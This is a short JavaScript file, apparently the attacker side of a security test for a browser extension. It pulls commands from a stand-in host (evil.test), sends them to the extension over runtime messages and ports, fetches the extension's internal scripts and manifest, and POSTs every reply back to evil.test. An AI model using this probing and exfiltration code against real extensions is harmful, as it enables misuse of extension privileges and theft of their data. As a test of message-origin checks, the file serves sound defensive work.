// Says to the extension under test all that only its own pages may say, and tells the attacker's server how it was heard.
const EVIL = 'https://evil.test';

async function attack() {
  const { id, origin, commands } = await (await fetch(`${EVIL}/orders`)).json();
  const answers = [];
  for (const command of commands) answers.push(await answered(() => chrome.runtime.sendMessage(id, command)));
  const heard = [];
  for (const name of ['panel', 'content', '']) heard.push(await connected(id, name, commands));
  const loaded = [];
  for (const path of ['/sidepanel.html', '/manifest.json', '/content-scripts/content.js', '/background.js']) {
    loaded.push(await answered(() => fetch(origin + path).then((response) => response.text())));
  }
  await tell('done', { asked: commands.length, answers, heard: heard.flat(), loaded });
}

function answered(ask) {
  const late = new Promise((done) => setTimeout(done, 1_000));
  return Promise.race([
    Promise.resolve()
      .then(ask)
      .catch(() => undefined),
    late,
  ]).then((value) => value ?? null);
}

async function connected(id, name, commands) {
  const heard = [];
  try {
    const port = chrome.runtime.connect(id, { name });
    port.onMessage.addListener((message) => heard.push(message));
    port.onDisconnect.addListener(() => chrome.runtime.lastError);
    for (const command of commands) port.postMessage(command);
  } catch {
    return heard;
  }
  await new Promise((done) => setTimeout(done, 300));
  return heard;
}

function tell(what, body) {
  return fetch(`${EVIL}/${what}`, { method: 'POST', body: JSON.stringify(body) });
}

void attack().catch((error) => tell('failed', String(error)));
